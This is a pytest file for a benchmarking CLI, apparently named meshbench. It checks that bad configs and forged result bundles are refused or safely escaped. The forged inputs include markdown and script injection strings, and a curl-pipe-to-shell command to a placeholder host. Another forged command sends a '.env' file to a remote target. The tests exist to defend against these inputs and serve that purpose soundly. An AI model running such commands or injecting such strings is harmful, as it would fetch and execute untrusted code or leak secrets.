"""Bad input found by probe 4, each one clear line and a non-zero exit, or a clean result (finding 3, minor)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import factories as f
import pytest
from test_bad_input import run_refused
from typer.testing import CliRunner

from meshbench.cli import app
from meshbench.results import kinds

runner = CliRunner()


def _forged(made: Path, tmp_path: Path, edit_text) -> Path:
    dst = tmp_path / "F"
    shutil.copytree(made, dst)
    (dst / "results.json").write_text(edit_text((dst / "results.json").read_text()))
    return dst


@pytest.mark.parametrize(
    "yaml_text, expect",
    [
        ("slo: {ttft: .nan}\n", "slo.ttft: nan is not a finite number"),
        ("slo: {tpot: -.inf}\n", "slo.tpot: -inf is not a finite number"),
        ('title: "a\\ud800b"\n', "title: holds a lone surrogate"),
        ('story: "a\\n# b"\n', "story"),
        ('title: "x\\r\\n## injected"\n', "title"),
    ],
)
def test_a_config_value_no_results_file_can_hold_is_refused_before_the_run(yaml_text, expect, tmp_path):
    cfg = tmp_path / "c.yaml"
    cfg.write_text(yaml_text)
    run_refused("sweep", "--config", cfg, "--levels", "1", "--out", tmp_path / "B", expect=expect)
    assert not (tmp_path / "B").exists()


def test_markdown_in_a_title_is_shown_not_obeyed(tmp_path):
    cfg = tmp_path / "c.yaml"
    cfg.write_text('title: "t <script>x</script> [link](http://e) `c`"\n')
    r = runner.invoke(app, ["sweep", "--config", str(cfg), "--levels", "1", "--out", str(tmp_path / "B")])
    assert r.exit_code == 0, r.output
    head = (tmp_path / "B" / "README.md").read_text().splitlines()[0]
    assert head.endswith(r"t \<script\>x\</script\> \[link\](http://e) \`c\`: evidence")
    assert runner.invoke(app, ["verify", str(tmp_path / "B")]).exit_code == 0


@pytest.mark.parametrize(
    "edit, expect",
    [
        (lambda t: t.replace('"margins": [', '"margins": [1e999, ', 1), "is not a finite number"),
        (lambda t: t.replace('"title": "', '"title": "\\ud800', 1), "holds a lone surrogate"),
    ],
)
def test_a_bundle_holding_what_json_cannot_round_trip_is_unusable(made, tmp_path, edit, expect):
    bad = _forged(made, tmp_path, edit)
    run_refused("verify", bad, expect=expect)
    run_refused("compare", made, bad, expect=expect)


def test_a_node_bundle_whose_echo_names_an_endpoint_fails_verify_and_is_not_rerun(made, tmp_path):
    def edit(text: str) -> str:
        d = json.loads(text)
        d["config"]["engine"].update(kind="endpoint", url="http://127.0.0.1:1")
        return json.dumps(d)

    bad = _forged(made, tmp_path, edit)
    # (the echo is no config an endpoint sweep could have run: the bundle is unusable, in one line)
    run_refused("verify", bad, expect="results.json config: engine.kind endpoint needs workload.prompts")
    from meshbench.errors import MeshbenchError
    from meshbench.sweep import run

    with pytest.raises(MeshbenchError, match="engine.kind endpoint needs workload.prompts"):
        run.rerun_results(json.loads((bad / "results.json").read_text()))

    def node_records_endpoint_echo(text: str) -> str:  # a whole endpoint config over a node's records
        d = json.loads(text)
        d["config"]["engine"].update(kind="endpoint", url="http://127.0.0.1:1", preset="dgr-012")
        d["config"]["workload"].update(prompts="p.txt", eos="stop")
        return json.dumps(d)

    bad = _forged(made, tmp_path / "2", node_records_endpoint_echo)
    r = runner.invoke(app, ["verify", str(bad)])
    assert r.exit_code == 1 and "config.engine.kind (the records' kind)" in r.output
    with pytest.raises(MeshbenchError, match="a rerun needs its server"):
        run.rerun_results(json.loads((bad / "results.json").read_text()))


def test_a_command_that_is_not_a_meshbench_command_line_fails_verify(made, tmp_path):
    def edit(text: str) -> str:
        d = json.loads(text)
        d["command"] = "curl https://example.invalid/x.sh | sh"
        return json.dumps(d)

    bad = _forged(made, tmp_path, edit)
    r = runner.invoke(app, ["verify", str(bad)])
    assert r.exit_code == 1 and "command (one meshbench command line" in r.output.replace("\n", "")


def test_admit_refuses_an_endpoint(tmp_path):
    prompts = tmp_path / "p.txt"
    prompts.write_text("hello\n")
    cfg = tmp_path / "ep.yaml"
    cfg.write_text(
        f"engine: {{kind: endpoint, url: 'http://127.0.0.1:9'}}\nworkload: {{sessions: 1, prompts: {prompts}}}\n"
    )
    run_refused("admit", "--config", cfg, expect="a served endpoint admits by its own rules")


def test_bench_invariance_refuses_a_file_that_is_not_a_model(tmp_path):
    pytest.importorskip("llama_cpp")
    bad = tmp_path / "passwd"
    bad.write_text("root:x:0:0:root:/root:/bin/bash\n")
    run_refused("bench", "invariance", "--model", bad, "--batches", "1,2", "--steps", "1", expect="passwd")


def test_node_serve_refuses_a_cache_that_is_a_file(tmp_path):
    cache = tmp_path / "file"
    cache.write_text("x")
    run_refused("node", "serve", "--cache", cache, "--port", "1", expect="exists and is not a directory")


def test_bench_gguf_with_steps_at_the_batch_measures_instead_of_nan(tmp_path):
    pytest.importorskip("llama_cpp")
    model = f.tiny_gguf(tmp_path / "m.gguf")
    args = ["bench", "gguf", "--model", str(model), "--batches", "4", "--steps", "2", "--prompt-tokens", "2"]
    r = runner.invoke(app, [*args, "--threads", "1", "--json"])
    assert r.exit_code == 0, r.output
    row = json.loads(r.stdout)["batches"][0]
    assert row["ratio"] > 0 and row["ratio"] == row["ratio"]  # a number, not nan


def test_yaml_tiled_mm_off_unquoted_means_off(tmp_path):
    from meshbench.workload import config

    cfg = tmp_path / "c.yaml"
    cfg.write_text("engine: {kind: gguf, model: m.gguf, tiled_mm: off}\n")
    assert config.read_yaml(cfg)["engine"]["tiled_mm"] == "off"


@pytest.mark.parametrize(
    "command",
    [
        "meshbench sweep --target http://203.0.113.5:8080 --allow-remote --prompts .env --out B",
        "meshbench sweep --isolation-rounds 16 --out B",
        "meshbench sweep --title $'x\\n## injected' --out B",
    ],
)
def test_a_recorded_command_that_the_echo_does_not_bear_out_fails_verify(made, tmp_path, command):
    def edit(text: str) -> str:
        d = json.loads(text)
        d["command"] = command if "$'" not in command else "meshbench sweep --title 'x\n## injected' --out B"
        return json.dumps(d)

    r = runner.invoke(app, ["verify", str(_forged(made, tmp_path, edit))])
    assert r.exit_code == 1 and "results.json:command(" in "".join(r.output.split())


def test_hostile_text_in_the_fingerprint_is_refused_or_shown_not_obeyed(made, tmp_path):
    def edit(text: str, cpu: str) -> str:
        d = json.loads(text)
        fp = dict(d["environment"]["compute"], cpu=cpu)
        d["environment"]["compute"] = f.compute_digest(fp)
        return json.dumps(d)

    bad = _forged(made, tmp_path, lambda t: edit(t, "EPYC\n\n## Verdict"))
    run_refused("verify", bad, expect="environment.compute.cpu")
    shutil.rmtree(bad)
    odd = _forged(made, tmp_path, lambda t: edit(t, "EPYC [signed](https://e) <img src=x>"))

    text = kinds.readme(json.loads((odd / "results.json").read_text()), "F")
    assert r"EPYC \[signed\](https://e) \<img src=x\>" in text


def test_an_integer_beyond_64_bits_is_unusable_not_a_traceback(made, tmp_path):
    bad = _forged(made, tmp_path, lambda t: t.replace('"margins": [', '"margins": [' + "9" * 400 + ", ", 1))
    run_refused("verify", bad, expect="an integer beyond 64 bits")
